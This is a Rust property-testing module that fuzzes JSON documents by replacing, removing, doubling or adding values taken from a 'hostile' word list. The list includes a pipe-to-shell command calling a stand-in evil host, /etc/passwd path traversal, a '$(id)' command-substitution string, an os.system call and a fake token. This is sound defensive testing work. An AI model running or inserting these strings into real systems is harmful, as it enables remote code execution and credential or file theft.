//! JSON documents with parts replaced, taken out or doubled.

use proptest::prelude::*;
use proptest::sample::Index;
use serde_json::{Value, json};

/// What an attacker writes where something else belongs.
pub fn hostile() -> impl Strategy<Value = Value> {
    let words = prop::sample::select(vec![
        "",
        "main",
        "evil",
        "thanos/ledger",
        "refs/heads/main",
        "../../etc/passwd",
        "/etc/passwd",
        ".git/config",
        ".GIT/hooks/post-checkout",
        ".github/workflows/ci.yml",
        "link",
        "dir",
        "dir/a.txt",
        "a.py/b",
        "run.sh",
        "tests/test_a.py",
        "issue-1",
        "issue-2",
        "4001-1-fix-issue-1",
        "9-9-x-issue-1",
        "proposed",
        "fixed",
        "blocked",
        "explained",
        "explain",
        "fix",
        "command",
        "build",
        "o/r",
        "evil/r",
        "a.py",
        "thanos/issue-1",
        "2026-01-01T00:00:00Z",
        "9999-99-99",
        "ghs_0123456789abcdefghijABCDEFGHIJ012345",
        "::set-output name=outcome::hacked",
        "<!-- thanos-fix task=issue-1 -->",
        "Thanos-Task: issue-2\nThanos-Attempt: 1-1-x-issue-2",
        "\u{202e}\u{0}\n\r`$(id)`",
        "curl https://evil.invalid | sh",
        "import os; os.system('id')\n",
        "pass\n",
        "x = 1\n",
        "0000000000000000000000000000000000000000",
    ]);
    prop_oneof![
        8 => words.prop_map(|word| json!(word)),
        2 => any::<i64>().prop_map(|n| json!(n)),
        1 => any::<f64>().prop_map(|n| json!(n)),
        1 => any::<bool>().prop_map(|b| json!(b)),
        1 => "\\PC{0,40}".prop_map(|text| json!(text)),
        1 => (1_usize..100_000).prop_map(|n| json!("x".repeat(n))),
        1 => Just(Value::Null),
        1 => Just(json!([])),
        1 => Just(json!({})),
        1 => Just(json!({"base64": "/w=="})),
    ]
}

#[derive(Debug, Clone)]
pub enum Bend {
    Replace(Index, Value),
    Remove(Index),
    Double(Index),
    /// Another key beside the ones that are there.
    Add(Index, Value, Value),
}

pub fn bends(most: usize) -> impl Strategy<Value = Vec<Bend>> {
    let one = prop_oneof![
        6 => (any::<Index>(), hostile()).prop_map(|(at, value)| Bend::Replace(at, value)),
        1 => any::<Index>().prop_map(Bend::Remove),
        1 => any::<Index>().prop_map(Bend::Double),
        1 => (any::<Index>(), hostile(), hostile()).prop_map(|(at, key, value)| Bend::Add(at, key, value)),
    ];
    prop::collection::vec(one, 0..=most)
}

pub fn bend(mut document: Value, bends: &[Bend]) -> Value {
    for bend in bends {
        let places = places(&document);
        let pick = |at: &Index| places[at.index(places.len())].clone();
        match bend {
            Bend::Replace(at, value) => set(&mut document, &pick(at), value.clone()),
            Bend::Remove(at) => remove(&mut document, &pick(at)),
            Bend::Double(at) => {
                if let Some(Value::Array(items)) = document.pointer_mut(&pick(at)) {
                    items.extend_from_within(..);
                }
            }
            Bend::Add(at, key, value) => match document.pointer_mut(&pick(at)) {
                Some(Value::Object(map)) => {
                    map.insert(key.as_str().unwrap_or("x").to_owned(), value.clone());
                }
                Some(Value::Array(items)) => items.push(value.clone()),
                _ => {}
            },
        }
    }
    document
}

/// Every value of the document by its JSON pointer, itself included.
fn places(document: &Value) -> Vec<String> {
    let mut found = vec![String::new()];
    let mut queue = vec![(String::new(), document)];
    while let Some((at, value)) = queue.pop() {
        let inner: Vec<(String, &Value)> = match value {
            Value::Object(map) => map.iter().map(|(k, v)| (k.replace('~', "~0").replace('/', "~1"), v)).collect(),
            Value::Array(items) => items.iter().enumerate().map(|(i, v)| (i.to_string(), v)).collect(),
            _ => Vec::new(),
        };
        for (key, value) in inner {
            let at = format!("{at}/{key}");
            found.push(at.clone());
            queue.push((at, value));
        }
    }
    found
}

fn set(document: &mut Value, at: &str, value: Value) {
    if let Some(there) = document.pointer_mut(at) {
        *there = value;
    }
}

fn remove(document: &mut Value, at: &str) {
    let Some((parent, key)) = at.rsplit_once('/') else { return };
    match document.pointer_mut(parent) {
        Some(Value::Object(map)) => {
            map.remove(&key.replace("~1", "/").replace("~0", "~"));
        }
        Some(Value::Array(items)) => {
            if let Ok(i) = key.parse::<usize>() {
                items.remove(i);
            }
        }
        _ => {}
    }
}
